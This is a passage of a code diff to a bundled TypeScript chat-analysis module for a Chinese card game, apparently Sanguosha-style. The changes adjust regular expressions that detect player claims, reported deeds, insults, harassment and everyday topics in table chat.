qiu仇丘秋囚毬求球裘遒酋 qu屈渠去取衢躯驱麴曲趋 quan全权泉荃劝拳犬券 que傕阙却雀鹊 qun群 ran然染髯燃 rang穰让禳攘 rao扰绕 re热 ren任人仁刃忍荏纫纴认韧 ri日 rong戎肜荣蓉融容嵘熔 rou柔肉 ru儒汝茹入如濡辱 ruan阮 rui叡瑞睿芮蕤锐 run润 ruo若弱 sa撒飒萨 sai赛塞 san三散 sang桑丧 sao扫骚 se瑟色 sen森 sha沙厦杀歃煞砂铩 shan单山珊闪善擅缮赡 shang尚上商殇裳伤觞赏 shao劭召绍邵韶少筲 she射涉蛇奢折社舍慑摄舌设赦 shen审慎沈深申神蜃身伸甚 sheng升生盛笙圣声省绳胜剩晟牲 shi史士师是氏石世事仕使势嗜噬失始室尸式恃拾施时狮矢莳蚀誓识诗逝释饰侍十实弑眎示筮蓍视试豕适適食 shou寿兽受守手授狩首收绶 shu庶术枢淑书姝戍数束树殊竖纾菽蜀鼠梳熟疏舒输述 shuai衰帅 shuang双爽霜 shui水睡 shun顺瞬 shuo朔硕妁说铄 si司巳思汜丝伺似四寺斯死私肆饲俟兕嗣 song宋嵩松竦颂诵送 sou薮 su肃苏谡俗夙宿溯素诉速 suan算 sui燧眭穗遂岁绥随碎邃髓 sun孙损 suo索娑所锁 ta蹋榻沓踏他挞 tai太泰台抬苔 tan叹婒昙檀谭坦襢弹探谈贪 tang唐棠傥堂汤螳 tao桃涛滔焘陶韬讨醄 te特 teng滕腾藤 ti缇逖体倜啼笹裼蹄悌替涕 tian田天甜 tiao调挑 tie铁 ting亭霆停庭渟听婷廷铤 tong桐童统通同瞳恸痛铜 tou头投偷透 tu图突兔吐土徒秃菟途荼 tuan团 tui腿蜕退侻推褪颓 tun吞屯囤 tuo佗托脱讬騨鼍拓 wai外 wan万婉完玩琬皖纨菀丸剜宛弯绾腕挽顽 wang望王亡往忘妄 wei卫威微未炜煨玮维薇隗韦魏为伟伪位危唯围委尉尾帷渭畏纬苇葳媦慰蔚褽诿违 wen文温闻揾璺稳问妏 weng翁 wo涴倭卧幄我握斡涡 wu伍兀午吴吾武毋乌五务勿呜悟无梧物舞误雾骛妩寤屋忤怃膴诬 xi习戏洗熙犀禧羲袭豨郗郤喜奚嬉希席徙悉溪系西阋隙吸夕息昔曦析檄汐牺玺皙 xia夏下侠瑕遐狭霞黠 xian仙先咸宪暹献羡苋贤鲜县弦显燹衔险陷娴现 xiang向湘祥襄象香乡像相翔骧享响箱 xiao小晓潇箫逍霄骁咲啸孝枭校笑萧虓鸮哮宵效消硝绡 xie协泄燮械榭薤蝎解邪偕卸挟撷绁翓胁谢 xin信昕欣歆辛馨心新薪衅 xing行兴性星杏邢骍幸形刑型 xiong熊雄兄凶 xiu休修琇秀绣袖貅朽 xu勖徐旭栩绪续许诩恤戌盱虚须序煦絮蓄 xuan宣旋暄炫煊玄璇萱轩选嫙悬昡璿眩 xue薛雪学血 xun勋巽循恂洵荀训迅逊寻巡熏驯殉询 ya牙雅亚娅芽轧压崖押涯鸦 yan严兖彦晏炎焉燕琰衍言阎颜嫣岩延檐演烟眼艳雁验厌咽堰妍宴掩湮焰盐研筵 yang杨洋玚羊羕鸯仰佯养央扬炀阳殃鞅 yao姚曜瑶繇耀夭媱爻遥妖徭摇药谣邀 ye晔烨野业也叶夜曳耶邺 yi乂义乙仪伊医嶷廙异役怡懿漪祎翊翼谊逸遗一亿以依夷奕已意抑易毅溢熠疑益移翳荑蚁衣议亦佚倚壹嫕宜弈弋忆揖疫艺裔轶饴 yin尹愔殷胤银阴隐音吟寅引印姻禋荫饮 ying婴应瑛璎盈膺英莹莺萦颖鹰影映樱营迎鹦媵硬荧 yong永邕雍勇庸拥涌用咏泳 you优友幼幽攸祐佑右忧悠有柚游猷由诱酉 yu于宇庾彧昱榆毓渝煜玉瑀瑜羽育舆虞裕豫遹郁钰预与俞圄域御愚欲浴狱禹窬语逾遇雨驭鱼鹬予余喻愈誉谀谕迂隅鬻 yuan元沅渊源瑗缘苑袁远鸢原园垣媛怨援渕鸳鼋圆愿 yue乐岳悦月约越钺樾玥跃阅 yun云允筠耘芸韵殒蕴运酝陨韫恽熨 zai仔再在载灾 zan瓒赞 zang臧葬驵 zao早枣躁凿藻造 ze泽笮帻择昃责则迮 zei贼 zen谮 zeng曾赠 zha吒札诈 zhai翟 zhan战湛瞻占斩盏绽霑展蘸 zhang张彰璋章丈仗障嶂帐掌瘴 zhao招昭赵照罩肇诏兆棹 zhe柘谪哲者 zhen桢珍甄真祯贞轸镇振阵震鸩枕缜赈针 zheng整正郑争峥征拯挣政狰证诤筝 zhi之徵志挚晊植治直知祉祗芷郅骘凪峙执指掷智枝止织职脂至致芝质雉鸷值制咫滞炙猘秩置 zhong重中仲忠种衷钟众冢终踵螽 zhou伷周州咒洲舟冑纣胄骤 zhu主朱柱珠祝竹竺诸助注渚烛猪筑翥著诛逐驻嘱煮蛀铸 zhuan篆转专撰 zhuang庄壮撞妆装 zhui坠椎缀追锥惴 zhun准 zhuo卓啄灼琢拙擢诼 zi子紫姿自资辎兹咨姊恣梓赀 zong宗综总纵踪 zou邹奏诹 zu祖俎族足阻诅镞 zuan攥纂钻 zui醉罪 zun遵樽尊 zuo左祚佐作坐座胙";
 
 // src/chatter/scene/called.ts
 const SHORTEST = 2;
@@ -21636,15 +21682,19 @@ function spelledAt(seats) {
 			const family = COMPOUND.test(call) ? 2 : 1;
 			const titles = call === bare2(calls[0] ?? "").join("") ? TITLES : [];
 			return ways.flatMap(
-				(way) => [...writtenAs(way, family), ...titles.map((title) => `${title} ${way.slice(0, family).join("")}`)].map(
-					(name) => [name, seat]
-				)
+				(way) => [
+					...writtenAs(way, family),
+					...titles.map((title) => `${title} ${way.slice(0, family).join("")}`),
+					...titles.length > 0 ? initialsOf(way) : []
+				].map((name) => [name, seat])
 			);
 		})
 	);
 }
 const LONGEST_SPELLED = 4;
 const TITLES = ["lady", "madam", "general", "mr"];
+const CHAT_LETTERS = /^(?:bc|bs|by|cd|dd|fr|ft|g[gjl]|hf|hh|hp|jj|jk|km|ky|lz|m[dmrsy]|nb|np|nt|p[cklst]|plz|py|qq|r[nt]|sb|sgs|sp|ss|tbh|tf|thx|tmd?|t[xy]|wp|wtf|xd|xs|yy|zz)$/;
+const initialsOf = (way) => [way.map(([letter = ""]) => letter).join("")].filter((name) => !/[aeiou]/.test(name) && !CHAT_LETTERS.test(name));
 function writtenAs(syllables, family) {
 	const parted = [syllables.slice(0, family).join(""), syllables.slice(family).join("")].join(" ").trim();
 	return [...new Set([syllables.join(" "), syllables.join(""), parted])];
@@ -21837,10 +21887,12 @@ const isEmptyHanded = ({ table, turn, turnOf, facts }, seat) => turn > 0 && seat
 );
 const factOf = (scene, id) => scene.facts.find((fact) => fact.id === id);
 const living = (scene) => scene.table.seats.filter((seat) => seat.alive);
-function neighbourOf({ table }, of, step) {
-	const seats = table.seats.filter(({ seat, alive }) => alive || seat === of);
-	const at = seats.findIndex(({ seat }) => seat === of);
-	return at < 0 ? null : seats[(at + step + seats.length) % seats.length]?.seat ?? null;
+function neighbourOf({ table, lastTurns }, of, step) {
+	const there = table.seats.filter(({ seat, alive }) => alive || seat === of).map(({ seat }) => seat);
+	const played = [...lastTurns.keys()].filter((seat) => there.includes(seat));
+	const seats = played.length === there.length ? played : there;
+	const at = seats.findIndex((seat) => seat === of);
+	return at < 0 ? null : seats[(at + step + seats.length) % seats.length] ?? null;
 }
 const isSame = ({ named }, card, other) => other !== null && (card === other || named(card) === named(other));
 
@@ -22404,7 +22456,7 @@ const PLAIN_SURE = 0.7;
 const FIRM_SURE = 1;
 const SUPPOSED3 = /如果|假如|假设|倘若|若是|若果|(?<![主只需不])要是|万一|就算|即使|即便|除非|要不是|假装|上[一个]?[把局盘]|那[把局盘]|昨天|\b(?:if|suppose|supposing|imagine|unless|assuming|pretend|last (?:game|time|round))\b/;
 const ASKED2 = /吗|么$|呢$|是不是|是否|还是|谁|什么身份|难道|莫非|会不会|该不会|对不对|哪个|哪边|\b(?:who|which|whether)\b|^ *(?:are|is|am|was|do|does|did|could|can|would|what|why|how)\b/;
-const TAG = /^(?:对吧?|是吧|是吗|对吗|对不对|是不是|right|no|huh|eh|isn't it|ok)$/;
+const TAG2 = /^(?:对吧?|是吧|是吗|对吗|对不对|是不是|right|no|huh|eh|isn't it|ok)$/;
 const NOT_OWN2 = /(?:说|讲|喊|骂|叫|当|以为|逼|别让|骗|误会|冤枉|希望|但愿|期待|[想要敢]|声称|自称|假装|别|除了|除去|除)(?:他|她|自己)?$|怀疑$|\b(?:says?|said|claims?|claimed|calls?|called|thinks?|thought|hopes?|hoped|wish|believes?) (?:that )?(?:he|she|they)?$/;
 const OWN_VIEW = /(?:^|[,.!?;: ])[要依照]?(?:我|俺|咱|在下|i)?(?:也|都|就|敢|可以|现在|还是)*(?:觉得|感觉|怀疑|猜|认为|敢说|说|看|发誓|think|guess|suspect|say|bet|swear|believe|am sure|know) ?(?:that )?$/;
 const OR_ELSE = new RegExp(`^(?:就是|还是|或者?|是|/|、|or an? )(?:${ROLE_ZH2}|${ROLE_EN2})`);
@@ -22533,7 +22585,7 @@ function isClaim({ about, start, end, role, denied }, line, speaker) {
 const ownWords = (text, start) => OWN_VIEW.test(text.slice(Math.max(0, start - 12), start));
 function isAsked2(text, clause, stop, sentence) {
 	if (ASKED2.test(text.slice(clause, stop)) || text[stop] === "?") return true;
-	return text[sentence] === "?" && TAG.test(text.slice(stop + 1, sentence).trim());
+	return text[sentence] === "?" && TAG2.test(text.slice(stop + 1, sentence).trim());
 }
 function sureness(text, start, end) {
 	const words = text.slice(clauseStart(text, start), clauseEnd(text, end));
@@ -22949,7 +23001,8 @@ function reportOf(said, scene) {
 		};
 	const summed = deed.counted && fact ? sumOf(found, deed.counted.of, deed.verb) : 0;
 	const counts = deed.counted?.of === "times" ? Math.max(summed, usesOf(deed, scene).length) : summed;
-	if (deed.counted && fact && counts < deed.counted.many && (counts > 0 || deed.counted.of === "times"))
+	const inVain = deed.counted?.of === "points" && found.every(({ kind }) => kind === "aimed");
+	if (deed.counted && fact && counts < deed.counted.many && (counts > 0 || deed.counted.of === "times" || inVain))
 		return { ...reported(deed, fact.kind, "false"), less: found.map(({ id }) => id) };
 	if (fact) return reported(deed, fact.kind, "true", { turn: fact.turn, id: fact.id });
 	if (use) return reported(deed, "aimed", "true", { turn: use.turn });
@@ -23607,6 +23660,7 @@ const THING_BEFORE = new RegExp(
 );
 const DENIED4 = /(?:(?<!是)不是(?:故意|有意|成心|真)?|并非|没说|没有说|没骂|别骂|不要骂|不算|没|别说|别叫)(?:要|想)?(?:你|我|他|谁|人)?(?:是|叫|个)?$|\b(?:didn't mean to|not|isn't|aren't|never said) (?:you (?:are|were) )?(?:a |an )?$|\b(?<!you )(?<!u )(?:won'?t|wouldn'?t|doesn'?t|can'?t) (?:just |ever )?$/;
 const YOU2 = /你|您|\b(?:you|u|ur|your)\b/;
+const DEFIANT = /(?<![他她号谁])(?:骂|喷|怼)的就是你|(?:^|[,.!?;:])我?就(?:是)?(?:要|想)?(?:骂|喷|怼)你(?!们?[吗么])|\b(?:i meant|yes i called|yeah i called) (?:you|u)\b.{0,24}\b(?:so what|deal with it|cry)\b|\bi(?:'m| am)? (?:was )?(?:insulting|cussing out|trashing) (?:you|u)\b/;
 const MENTION = /^(?:"|是什么意思|这个词|这俩字|怎么写|是骂人)/;
 function weigh6(line, finding, ofHearer) {
 	const { text } = line;
@@ -23658,6 +23712,12 @@ function judgeHostility(line, opinion, ofHearer = false) {
 			hostile = Math.max(hostile, score);
 			if (score >= 0.3) counted++;
 		}
+	}
+	const defiant = line.quoted ? null : DEFIANT.exec(line.text);
+	if (defiant) {
+		attack = Math.max(attack, THOUGHT);
+		hostile = Math.max(hostile, THOUGHT);
+		evidence.push({ kind: "curse", weight: THOUGHT, start: defiant.index, end: defiant.index + defiant[0].length });
 	}
 	const threats = threatsIn(line);
 	if (threats.length > 0) {
@@ -23719,6 +23779,8 @@ const CUED = 0.6;
 const THOUGHT2 = 0.65;
 const LONGEST_EVIDENCE = 40;
 const SETS_ON = /(?:(?:叫|喊|让|找|拉)(?:全[桌服群]|大家|所有人|一群人|兄弟们?)(?:来|一起|都|去[^,.!?]{0,5})*|(?:叫|喊|找)人(?:来|一起|去)+)(?:骂|喷|刷屏|举报|网暴|人肉|围攻)|\b(?:get|have|make|tell) (?:everyone|everybody|all|people|the (?:whole )?table|(?:all )?my \w+) (?:here )?(?:to )?(?:spam|report|flame|harass|dox|bully|insult)\b/;
+const isBare = (text, { start, end }) => /裸[辞考婚分机眼]/.test(text.slice(start, end + 1));
+const TOUCHES = /(?:让|给)(?:哥哥?|我|爷|姐姐?|老子)[再也]?(?:摸|捏|揉|亲|舔|抱)(?:一?[把下口抱]|摸|捏|亲)(?!牌|.{0,2}装备)|\btake (?:off )?(?:your|ur) (?:clothes|pants|shirt|top|dress)\b|\bstrip for me\b/;
 const strongest2 = (line, kind) => [...line.findings.get(kind) ?? []].sort((a, b) => b.weight - a.weight).slice(0, 2);
 const nearness = (stage) => NEARNESS[STAGES.indexOf(stage)] ?? 1;
 function binds(line, finding) {
@@ -23743,6 +23805,7 @@ function judgeCloseness(line, stage, relationship, opinion) {
 		fondness: 0,
 		secret: false
 	};
+	const bare = isBare(line.text, { start: 0, end: line.text.length });
 	let implied = 0;
 	let told = false;
 	for (const kind of Object.keys(NEEDED)) {
@@ -23760,6 +23823,7 @@ function judgeCloseness(line, stage, relationship, opinion) {
 				told = true;
 				continue;
 			}
+			if (kind === "sex" && isBare(line.text, finding)) continue;
 			if (kind === "privacy" && AT_TABLE.test(line.text.slice(finding.end))) continue;
 			if (kind === "sex" && /^(?:你|真|好|太)/.test(words) && subjectBefore(line.text, finding.start + 1) === "other")
 				continue;
@@ -23787,11 +23851,16 @@ function judgeCloseness(line, stage, relationship, opinion) {
 		result.overstep = Math.max(result.overstep, finding.weight);
 		result.binding.push(finding);
 	}
+	const touch = near < 5 && !line.quoted ? TOUCHES.exec(line.text) : null;
+	if (touch) {
+		result.overstep = Math.max(result.overstep, CUED);
+		result.tooFast.push({ kind: "sex", weight: CUED, start: touch.index, end: touch.index + touch[0].length });
+	}
 	const setOn = SETS_ON.exec(line.text);
 	if (setOn && !line.quoted)
 		result.binding.push({ kind: "bind", weight: CUED, start: setOn.index, end: setOn.index + setOn[0].length });
 	const spoken = (line.findings.has("cue.near") || line.findings.has("cue.bind")) && /你|妳|您|\byou/.test(line.text);
-	if (result.tooFast.length === 0 && near < 5 && !line.play && cues(line, "cue.near") + (spoken ? 0.1 : 0) >= CUES_SPEAK && (spoken || /我/.test(line.text) || line.text.length < 12)) {
+	if (result.tooFast.length === 0 && near < 5 && !line.play && !bare && cues(line, "cue.near") + (spoken ? 0.1 : 0) >= CUES_SPEAK && (spoken || /我/.test(line.text) || line.text.length < 12)) {
 		result.overstep = Math.max(result.overstep, CUED);
 		result.tooFast.push(...strongest2(line, "cue.near"));
 		implied = Math.max(implied, IMPLIED.love ?? 5);
@@ -23812,7 +23881,7 @@ function judgeCloseness(line, stage, relationship, opinion) {
 	if (calm && bind > held && bind >= fast) {
 		result.overstep = Math.max(result.overstep, THOUGHT2);
 		result.binding.push(whole);
-	} else if (calm && near < 4 && fast > held + (near > 2 ? 1 : 0)) {
+	} else if (calm && !bare && near < 4 && fast > held + (near > 2 ? 1 : 0)) {
 		result.overstep = Math.max(result.overstep, THOUGHT2);
 		result.tooFast.push(whole);
 		implied = Math.max(implied, near + 2);
@@ -27608,7 +27677,7 @@ function cardsIn(text) {
 }
 
 // src/chatter/moves/deed.ts
-const DENIED5 = /(?:(?:就是|偏偏?|唯独|单单)不|没有?|并没|从没|从来没|不曾|未曾|不是|哪有|哪里|何曾|什么时候)(?:人|怎么|真的?|故意|在|想|要|去|用过?|(?:给|帮|替|对|把)(?:我|你|他|她|主公|\S号))?$|(?:didn't|didnt|did not|never|haven't|hasn't|not)(?: even| really| ever)? (?:use \w+ )?$/;
+const DENIED5 = /(?:(?:就是|偏偏?|唯独|单单)不|没有?|并没|从没|从来没|不曾|未曾|不是|哪有|哪里|何曾|什么时候)(?:被人?|人|怎么|真的?|故意|在|想|要|去|用过?|(?:给|帮|替|对|把)(?:我|你|他|她|主公|\S号))?$|(?:didn't|didnt|did not|never|haven't|hasn't|not)(?: even| really| ever)? (?:use \w+ )?$/;
 const party = (mention, otherwise = "open") => {
 	if (!mention) return otherwise;
 	switch (mention.kind) {
@@ -27873,14 +27942,16 @@ const PAST = /了|每|就把|连[吃喝砍杀打]|[又还]要|过(?!河|来|去|
 const OVER = /^.?[掉完]?了/;
 const DONE = /^的(?!好|不错|漂亮|真|太|时候|话)/;
 const ENGLISH_PAST = /ed$|^(?:hit|struck|shot|stole|stolen|gave|took|threw|slew|slain|hurt|went for|dead|died|broke)/;
-const FUTURE = /(?:(?<!又)要|想|会|别|去|快|(?<!早)先(?!.{0,4}[再又])|(?<![上本后原]|了.{0,2})来|该|请|将|敢|准备|打算|应该|必须|得|(?<!先.{0,5})再|倒是|给我|可以|能|帮我|让|不许|不准|如果|要是|谁敢|下(?:个|一)?(?:回合|轮|圈)|别再|不要|求|等(?:我|着)|'ll|\b(?:will|would|should|could|can|must|gonna|let's|lets|let|(?:do|wo|would)n'?t|please|pls|to|if|might|next)\b)/;
+const FUTURE = /(?:(?<!又)要|想|会|别|去|快|(?<!早)先(?!.{0,4}[再又])|(?<![上本后原]|了.{0,2})来|该|请|将|敢|准备|打算|应该|必须|得|(?<!先.{0,5})再|倒是|给我|可以|能|帮我|让|不许|不准|如果|要是|谁敢|下(?:个|一)?(?:回合|轮|圈|张|刀)|别再|不要|求|等(?:我|着)|'ll|\b(?:will|would|should|could|can|must|gonna|let's|lets|let|(?:do|wo|would)n'?t|please|pls|to|if|might|next)\b)/;
 const isOver = (when) => when?.which === "last_turn" || when?.which === "last_round";
 const BARE = /^(?:hit|hurt)$/;
 const JOINED = /^(?:(?:and|then|now|just|so|ok|pls|please|lord|or|but)[ ,]+)*$/;
+const BEGGED = /^帮我[^,.!?]{1,8}(?:呗|行不|好不)/;
 const DID = /\bdid(?:n't)? /;
 function isPast(clause, { start, end, when }, { dies, passive, caused, ordered }) {
 	const before = clause.slice(0, start);
 	const words = clause.slice(start, end);
+	if (BEGGED.test(clause.slice(start))) return false;
 	if (ordered && BARE.test(words) && JOINED.test(before)) return false;
 	const over = isOver(when) || PAST.test(clause.slice(Math.max(0, start - 8), Math.min(clause.length, end + 8))) || ENGLISH_PAST.test(words) || dies || DONE.test(clause.slice(end).replace(/^[掉走]/, "")) || passive || DID.test(before);
 	return over && !/\b(?:pls|please|plz)\b/.test(clause.slice(end)) && !FUTURE.test(
@@ -27944,7 +28015,7 @@ const ROWS4 = [
 	{
 		verb: "discard",
 		zh: "(?<![张把手])拆(?!招|台|穿|迁|字|不动)(?:掉|光|了)?|卸(?:掉|了)(?!妆|任)|扬了|(?<=把.{1,8})(?:砸|撕|毁|扔)(?=了|掉)|砸(?:了|掉)|扒(?:了|掉|光|走)?(?=我|你|他|她|主|[一二三四五六七八九\\d])|过河(?:拆桥)?|[弃扔](?:掉|了)(?=我|你|他|她|主|[一二三四五六七八九十\\d])",
-		en: "dismantl(?:ed?|es)|discard(?:ed)?|broke|destroy(?:ed)?|stripp(?:ed|ing)|ripped|trashed|binned|burned my"
+		en: "dismantl(?:ed?|es)|discard(?:ed)?|broke|destroy(?:ed)?|wreck(?:ed)?|stripp(?:ed|ing)|ripped|trashed|binned|burned my"
 	},
 	{
 		verb: "steal",
@@ -27953,7 +28024,7 @@ const ROWS4 = [
 	},
 	{
 		verb: "heal",
-		zh: "回血|回了?[一二两三几\\d]?(?:点|滴|口)?血|加血|奶(?:了|过)?(?:一)?口?(?=我|你|他|她|主|[一二三四五六七八九十\\d])|喂(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|桃))|喂(?=的|了)|奶(?=的)|(?<=桃.{0,8})(?:掏|出|吃|给)(?=的)|[吃喝磕嗑啃](?:的|了|过)?(?:[一二三四五两俩几\\d]*[个口颗张]?)桃|掏(?:了|出)?(?:[一二三两几\\d]*[个口颗])?桃|回(?:了|过)?[一二两三几]口|续(?:了)?[一二两三]?(?:口|点|滴)?(?:血|命)|(?<=给.{1,6})续(?:了|上)|抬(?:了|过)?(?:一手|一口|一下)?(?=我|你|他|她|主|[一二三四五六七八九\\d]|\\p{Script=Han}{2})|捞(?:了|过)?(?=我|你|他|她|主)|扶(?:起来|了?起|回来)|(?<=把.{1,6})拉(?:起来|回来)",
+		zh: "回血|回了?[一二两三几\\d]?(?:点|滴|口)?血|加血|奶(?:了|过)?(?:一)?口?(?=我|你|他|她|主|[一二三四五六七八九十\\d])|喂(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|桃))|喂(?=的|了)|奶(?=的)|(?<=桃.{0,8})(?:掏|出|吃|给)(?=的)|[吃喝磕嗑啃](?:的|了|过)?(?:[一二三四五两俩几\\d]*[个口颗张]?)桃|掏(?:了|出)?(?:[一二三两几\\d]*[个口颗])?桃|回(?:了|过)?[一二两三几]口|续(?:了)?[一二两三]?(?:口|点|滴)?(?:血|命)|(?<=给.{1,6})续(?:了|上)|抬(?:了|过)?(?:一手|一口|一下)?(?=我|你|他|她|主|[一二三四五六七八九\\d]|\\p{Script=Han}{2})|捞[了过的]?(?=我|你|他|她|主)|扶(?:起来|了?起|回来)|(?<=把.{1,6})拉(?:起来|回来)",
 		en: "heal(?:ed|s|ing)?|(?:ate|eats|eating|had)(?= (?:(?:an?|one|two|three|\\d|his|her|their|another|all)(?: the| his| more)? )?peach)|(?:spent|wasted|burned)(?= (?:an?|his|her|their|the|one|my|your) (?:\\w+ )?(?:peach|tao))|patched (?=.{1,16} ?up)|topped (?=.{1,16} ?up)"
 	},
 	{ verb: "heal", card: "tao", en: "peach(?:ed|ing)" },
@@ -27981,7 +28052,7 @@ const ROWS4 = [
 	{
 		verb: "attack",
 		zh: "[一两二三]刀|[挨吃](?:了)?一[套顿]|捅|剁|劈(?!腿|叉)|扎(?!实|心|堆|根)|刮(?!风|目)|削(?!减|弱)|捶|踹|踩(?=了|我|你|他|她|主|老|[一二三四五六七八九\\d])|怼|突突|剐|敲掉|碰(?=了|过)|踢(?=了|我|你)|抽(?=了(?:我|你|他|她|主))|咬(?=了|我|你|他|她|主)|薄了|爆锤|戳|(?<!讽)刺(?!激)|(?<=[那这])(?:[一二两三四五六几\\d]*)(?:刀|下)(?=$|[对总手是])|电(?=了?(?:我|你|他|她|主|[一二三四五六七八九\\d])|了)|炸(?=了?(?:我|你|他|她|主|[一二三四五六七八九\\d])|了)|扣(?:了)?(?=我|你|他|她|主|[一二三四五六七八九\\d]号)|过不去|作对|死磕|较劲|[扣掉挨吃丢少](?:了|过)?(?:[一二三两几\\d]*[点滴格刀下]?)(?:血|刀|揍)|打(?:掉)?(?!过?包票|算|扰|牌|赌|招呼|错字|电话|呼噜|瞌睡|盹|卡|折|包|得|的(?:好|不错|漂亮|真|太)|法|字|听|开|一把|游戏|工|不过|完|死)(?:了|过)?|揍|(?<![实石铁])锤(?!子)|攻击|针对|集火|伤害?(?=了|过|我|你|他|她)|射|点(?=了?(?:我|你|他|她)(?![们的]))|弄(?=了?我)|轰|坑(?=了?(?:我|你|他|主))|搞(?=了?(?:我|你|他|主))|动手|出手|欺负|阴(?=了?(?:我|你|他))|下手|掉(?:了|那)?[一二三两\\d]?(?:点|滴)?血|(?<=血.{0,3})[少掉](?:了)?[一二三两\\d][点滴格]|(?<!死)[吃挨中](?:了|过)?一?[张发记个]?(?=乐|兵|杀|决斗|火攻|南蛮|万箭)",
-		en: "(?:go(?:es)?|went) straight (?:for|at)|took (?:\\d|one|two|three) (?:hp |health |points? )?(?:off|from)|hit(?:s|ting)?|zapp?(?:ed|ing|s)?|pok(?:ed?|es|ing)|clipp(?:ed|ing)|nuk(?:ed|ing)|whack(?:ed)?|bonk(?:ed)?|clapp(?:ed|ing)|smok(?:ed|ing)|blast(?:ed|ing)|clobber(?:ed|ing)|jump(?:ed|ing)|nail(?:ed|ing)|cook(?:ed|ing)|toasted|went (?:ham|off|all in|hard|full \\w+)(?= (?:on|at))|bull(?:ied|ying)|body(?:ed|ing)|got (?=(?:me|him|her|us|the lord)(?: (?:again|good|too|there|lol|twice|last|this|first|pretty|for)\\b|$|[,.!?]))|attack(?:ed|s|ing)?|hurt|damag(?:ed?|es)|target(?:ed|s|ing)?|smack(?:ed)?|punch(?:ed)?|burn(?:ed|t|s|ing)(?! (?:all|through|your|his) )|went for|go(?:ing)? after|going for|pick(?:ed|ing) on|beat(?:ing)?"
+		en: "(?:go(?:es)?|went) straight (?:for|at)|took (?:\\d|one|two|three) (?:hp |health |points? )?(?:off|from)|hit(?:s|ting)?|zapp?(?:ed|ing|s)?|pok(?:ed?|es|ing)|clipp(?:ed|ing)|nuk(?:ed|ing)|whack(?:ed)?|bonk(?:ed)?|clapp(?:ed|ing)|smok(?:ed|ing)|blast(?:ed|ing)|clobber(?:ed|ing)|jump(?:ed|ing)|nail(?:ed|ing)|cook(?:ed|ing)|toasted|went (?:ham|off|all in|hard|full \\w+)(?= (?:on|at))|bull(?:ied|ying)|body(?:ed|ing)|got (?=(?:me|him|her|us|the lord)(?: (?:again|good|too|there|lol|twice|last|this|first|pretty|for)\\b|$|[,.!?]))|attack(?:ed|s|ing)?|hurt|damag(?:ed?|es)|dmg(?:e?d)?|target(?:ed|s|ing)?|smack(?:ed)?|punch(?:ed)?|burn(?:ed|t|s|ing)(?! (?:all|through|your|his) )|went for|go(?:ing)? after|going for|pick(?:ed|ing) on|beat(?:ing)?"
 	},
 	{
 		verb: "low",
@@ -28036,6 +28107,7 @@ const BEHIND_DID = {
 	discard: "discard",
 	rescue: "save",
 	feed: "give",
+	hand: "give",
 	peach: "heal",
 	counter: "wuxie",
 	cancel: "wuxie",
@@ -28184,7 +28256,8 @@ function alike2(clause, deed, mentions) {
 	const at = mentions.findIndex(({ seat }) => seat !== null && seat === deed.to);
 	const beside = mentions[at - 1];
 	const one = mentions[at];
-	if (!one || !beside || beside.kind !== "seat" || beside.seat === null || beside.seat === deed.by) return [];
+	if (!one || !beside || deed.to === deed.by || beside.kind !== "seat" || beside.seat === null || beside.seat === deed.by)
+		return [];
 	return /^[ 、和跟与]?$/.test(clause.slice(beside.end, one.start)) ? [{ ...deed, to: beside.seat }] : [];
 }
 function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, when, carried, stop) {
@@ -28261,7 +28334,7 @@ function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, wh
 	const moved = ahead && TAKES_OBJECT.has(row.verb) && !MEANS.has(ahead.card) && !/[用拿使]\S{0,2}$/.test(clause.slice(0, ahead.start)) ? ahead : void 0;
 	const object = TAKES_OBJECT.has(row.verb) ? behind && !MEANS.has(behind.card) ? behind : moved : void 0;
 	const tool = TAKES_TOOL.has(row.verb) ? ahead ?? (object ? void 0 : behind) : void 0;
-	const named = object?.card ?? row.card ?? tool?.card ?? null;
+	const named = object?.card ?? (FOR_ALL.has(tool?.card ?? "") ? tool?.card : row.card) ?? tool?.card ?? null;
 	if (puts && named !== null && GEAR.has(named)) to = "open";
 	const counted = countedIn(clause.slice(end, Math.max(stop + (/^[两二三]刀/.test(clause.slice(stop)) ? 2 : 0), end)));
 	return {
@@ -28336,7 +28409,7 @@ const DAILY = [
 	[
 		"overwork",
 		"work",
-		"加班|996|007|被(?:甲方|客户|需求).{0,4}(?:折磨|逼|搞)|boss wants me (?:in|to work)|(?:改|写|赶)(?:方案|需求|ppt|报表|标书)|周末还?(?:要|得)?(?:上班|干活|开会)|(?:上班|工作|搬砖|干活).{0,8}(?:累|烦|麻|崩溃|要命|不想|emo|头大)|(?:累|烦|不想|讨厌|受够).{0,6}(?:上班|工作|开会)|想辞职|裸辞|\\b(?:overtime|(?:work(?:ing|ed)?|worked) (?:late|weekends?|doubles?|nights?|\\d+ hours)|double shift|night shift|on call|deadlines?|burn(?:ed|t) out|burnout|swamped|(?:hate|hated|quit|quitting|leaving) my job|work (?:is|has been|was) (?:kill\\w*|hell|brutal|crazy|awful|rough|a nightmare)|long (?:day|shift) at work)\\b"
+		"加班|996|007|被(?:甲方|客户|需求).{0,4}(?:折磨|逼|搞)|boss wants me (?:in|to work)|(?:改|写|赶)(?:方案|需求|ppt|报表|标书)|周末还?(?:要|得)?(?:上班|干活|开会)|(?:上班|工作|搬砖|干活).{0,8}(?:累|烦|麻|崩溃|要命|不想|emo|头大)|(?:累|烦|不想|讨厌|受够).{0,6}(?:上班|工作|开会)|\\b(?:overtime|(?:work(?:ing|ed)?|worked) (?:late|weekends?|doubles?|nights?|\\d+ hours)|double shift|night shift|on call|deadlines?|burn(?:ed|t) out|burnout|swamped|hated? my job|work (?:is|has been|was) (?:kill\\w*|hell|brutal|crazy|awful|rough|a nightmare)|long (?:day|shift) at work)\\b"
 	],
 	[
 		"colleague",
@@ -28396,7 +28469,7 @@ const DAILY = [
 	[
 		"tired",
 		"sleep",
